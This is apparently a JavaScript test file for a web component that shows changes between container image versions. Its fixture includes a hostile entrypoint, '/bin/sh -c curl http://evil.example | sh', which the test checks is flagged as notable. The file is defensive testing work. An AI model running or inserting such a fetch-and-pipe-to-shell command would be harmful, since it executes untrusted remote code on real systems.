// <ocisign-changes>: does it tell what differs, so that nobody misses what matters and nothing unknown passes for the same?
import assert from "node:assert/strict";
import { test } from "node:test";
import { checkAccessibility } from "../support/axe.js";
import { sendable, useChanges } from "../support/changes-element.js";
import { hostileTexts } from "../support/hostile.js";
import {
  changed,
  changesOf,
  layersOf,
  packagesChanged,
  platformNamed,
  platformOf,
  unknown,
  unknownError,
} from "../support/image-changes.js";
import { shownText } from "../support/signing-element.js";
import { mount, told } from "../support/stage.js";

const { show, stage } = useChanges();
const element = "ocisign-changes";

/** @param {import("../support/image-changes.js").ImageChanges} changes @param {...any} notable */
const noting = (changes, ...notable) => ({ ...changes, notable });

const much = () =>
  noting(
    changesOf(
      platformOf({
        layers: layersOf("same", "gone", "new"),
        entrypoint: changed(["/app"], ["/bin/sh", "-c", "curl http://evil.example | sh"]),
        user: changed("app", ""),
        environment: [{ name: "TOKEN", ...changed({ masked: true }, { masked: true }) }],
        labels: [{ name: "url", ...changed("https://one.example/", "https://two.example/") }],
        packages: packagesChanged("libc6", "openssl"),
        created: changed("2026-11-01T08:00:00Z", "2026-11-28T08:00:00Z"),
      }),
    ),
    { code: "user-root" },
    { code: "entrypoint" },
  );

for (const [width, height] of /** @type {const} */ ([
  [390, 844],
  [1280, 800],
])) {
  test(`the line and what is notable are in sight, the rest in a fold, at ${width} pixels`, async () => {
    const { page, complaints } = await show(much(), { options: { viewport: { width, height } } });
    const told = await shownText(page, '[part="notable"]');
    assert.match(told, /It now runs as root/);
    assert.ok(told.includes('["/bin/sh","-c","curl http://evil.example | sh"]'), told);
    assert.match(
      await shownText(page, '[part="summary"]'),
      /^1 of 2 layers new, 2 packages changed, entrypoint changed/,
    );
    assert.equal(await page.locator('[part="notable"]').evaluate((it) => it.closest("details")), null);
    assert.equal(await page.locator('[data-part="packages"]').count(), 0);
    await page.getByText("All changes").click();
    await page.locator('[data-part="packages"]').waitFor();
    const whole = await shownText(page, '[part="details"]');
    for (const part of [
      "libc6",
      "1.0",
      "1.1",
      "TOKEN",
      "it looks like a secret",
      "https://two.example/",
      "RUN step 2",
    ])
      assert.ok(whole.includes(part), part);
    const wide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth);
    assert.equal(wide, false);
    await checkAccessibility(page, "all changes");
    assert.deepEqual(complaints, []);
  });
}

test("an image that nothing proves is marked in words and colour", async () => {
  const { page } = await show(much());
  await page.getByText("other image not verified").waitFor();
  await page.locator('[part="unverified"]').waitFor();
  assert.equal(await page.locator(".changes").getAttribute("data-trust"), "none");
});

test("what could not be read says why, and is never the same", async () => {
  const { page } = await show(
    changesOf(
      platformOf({ packages: unknown(), user: unknown(), environment: [{ name: "", ...unknown() }] }),
      { ...unknown(), platform: platformNamed("linux/arm64") },
    ),
  );
  const line = await shownText(page, '[part="summary"]');
  for (const part of ["packages unknown", "user unknown", "environment unknown", "linux/arm64 unknown"])
    assert.ok(line.includes(part), `${part}: ${line}`);
  await page.getByText("All changes").click();
  await page.locator('[data-platform="linux/amd64"] > summary').click();
  for (const part of ["packages", "start", "environment"]) {
    const told = await shownText(page, `[data-part="${part}"]`);
    assert.ok(told.includes(unknownError().message) && told.includes("may differ"), `${part}: ${told}`);
  }
  await checkAccessibility(page, "unknown parts");
});

test("a web address of a label leads somewhere only by a press", async () => {
  const { page } = await show(much());
  await page.getByText("All changes").click();
  const link = page.getByRole("link", { name: "Open https://two.example/ in a new tab" });
  assert.equal(await link.getAttribute("rel"), "noopener noreferrer nofollow");
});

test("hostile texts are shown with what they hide, everywhere", async () => {
  for (const { name, text, seen } of hostileTexts) {
    const { page, complaints } = await show(
      noting(
        changesOf(
          platformOf({
            entrypoint: changed([text], [text, "x"]),
            environment: [{ name: text, state: "added", after: { value: text, masked: false } }],
            labels: [{ name: text, state: "added", after: text }],
            packages: packagesChanged(text),
            base: changed({ name: text, layers: 1 }, { name: `${text}2`, layers: 1 }),
            layers: layersOf("new").map((one) => ({ ...one, layer: { ...one.layer, createdBy: text } })),
          }),
        ),
        { code: "variable-loads-code", subject: text },
      ),
    );
    await page.getByText("All changes").click();
    await page.locator('[data-part="packages"]').waitFor();
    for (const place of [
      '[part="notable"]',
      '[data-part="labels"]',
      '[data-part="packages"]',
      '[data-part="layers"]',
    ]) {
      const shown = await shownText(page, place);
      for (const part of seen) assert.ok(shown.includes(part), `${name}, ${place}: ${shown.slice(0, 300)}`);
    }
    assert.equal(await page.evaluate(() => document.documentElement.dataset.ran), undefined, name);
    assert.deepEqual(complaints, []);
  }
});

test("thousands of packages do not hold up the page, and come step by step", async () => {
  const names = Array.from({ length: 5000 }, (_, at) => `package-${at}`);
  const { page } = await show(changesOf(platformOf({ packages: packagesChanged(...names) })));
  await page.getByText("All changes").click();
  await page.locator('[data-part="packages"] > summary').click();
  assert.equal(await page.locator('[data-part="packages"] [data-state]').count(), 50);
  await page.getByRole("button", { name: "Show 50 more, of 4950" }).click();
  assert.equal(await page.locator('[data-part="packages"] [data-state]').count(), 100);
});

test("in a list it says the line and what is notable, and nothing else", async () => {
  const { page } = await show(much(), { properties: { brief: true } });
  const told = await shownText(page, element);
  for (const part of ["1 of 2 layers new", "It now runs as root"]) assert.ok(told.includes(part), told);
  assert.equal(await page.getByText("All changes").count(), 0);
  await checkAccessibility(page, "brief");
});

test("words of the page's own replace ours, also in what is drawn already", async () => {
  // Another page has its own words.
  const { page } = await show(much(), { options: {} });
  await page.evaluate(() => {
    globalThis.ocisign.setStrings({ changes: { title: "Mikä muuttui" } });
    globalThis.ocisign.setStrings({
      changes: { newLayers: (/** @type {number} */ count) => `${count} uutta kerrosta` },
    });
    globalThis.element.requestUpdate();
  });
  await page.getByRole("heading", { name: "Mikä muuttui" }).waitFor();
  assert.match(await shownText(page, '[part="summary"]'), /^1 uutta kerrosta/);
});

test("a page that cannot load what draws a comparison says so", async () => {
  const { page } = await stage.open();
  await page.route("**/elements-changes.js", (route) => route.abort());
  await mount(page, element, { properties: { changes: sendable(much()) } });
  await page.getByText("This page could not compare the images.").waitFor();
  assert.equal((await told(page, "ocisign-error")).length, 1);
});

test("without anything to compare it says so", async () => {
  const { page } = await stage.open();
  await page.evaluate(() =>
    document.querySelector("main")?.append(document.createElement("ocisign-changes")),
  );
  await page.getByText("Nothing to compare was given.").waitFor();
});
